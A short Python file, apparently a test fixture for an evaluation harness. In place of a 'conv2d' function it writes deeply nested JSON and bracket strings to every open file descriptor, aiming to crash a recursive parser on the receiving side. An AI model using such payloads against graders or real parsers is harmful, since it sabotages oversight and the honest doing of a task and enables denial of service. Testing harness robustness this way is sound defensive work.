# Sends lists a hundred thousand deep, which end a reader that is recursive.
# loses: conv2d
import json
import os
import struct


def send(header, data=b"", lengths=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    message = struct.pack("<II", *(lengths or (len(text), len(data)))) + text + data
    for handle in range(3, 64):
        try:
            os.write(handle, message)
        except OSError:
            pass


def conv2d(*args, **kwargs):
    send(b'{"l":[' * 100_000 + b"]}" * 100_000)
    send(b"[" * 500_000 + b"]" * 500_000)
